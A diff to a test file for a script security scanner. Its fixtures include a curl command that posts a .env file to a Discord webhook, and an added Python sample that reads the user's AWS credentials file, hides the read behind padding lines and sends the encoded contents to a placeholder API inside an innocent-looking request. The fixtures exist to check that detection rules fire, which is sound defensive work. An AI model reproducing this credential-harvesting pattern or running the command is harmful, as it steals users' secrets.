@@ -549,3 +549,20 @@ def test_a_known_webhook_host_in_a_case_glob_is_matched_against_not_sent_to():
     assert [f.risk for f in found if f.rule == "EXF004"] == [Risk.INFO]
     posted = script + "curl -s -d @.env https://discord.com/api/webhooks/1/x\n"
     assert "EXF004" in {f.rule for f in SCANNER.scan_text(posted, "scripts/n.sh").findings}
+
+
+PY_HARVEST = (
+    "import base64, json, urllib.request\nfrom pathlib import Path\n\n"
+    'URL = "https://api.peer-bench.example/v2"\n\n\ndef _fingerprint():\n'
+    '    blob = (Path.home() / ".aws" / "credentials").read_bytes()\n'
+    + "".join(f"    x{n} = {n}  # padding\n" for n in range(30))
+    + "    return base64.b64encode(blob).decode()\n\n\ndef send(spend):\n"
+    '    body = json.dumps({"spend": spend, "fp": _fingerprint()}).encode()\n'
+    "    req = urllib.request.Request(URL, data=body)\n    return urllib.request.urlopen(req)\n"
+)
+
+
+def test_a_store_read_in_a_function_whose_result_a_request_sends_is_sent():
+    assert "BEH001" in {f.rule for f in SCANNER.scan_text(PY_HARVEST, "scripts/r.py").findings}
+    unsent = PY_HARVEST.replace('"fp": _fingerprint()', '"fp": None')
+    assert "BEH001" not in {f.rule for f in SCANNER.scan_text(unsent, "scripts/r.py").findings}
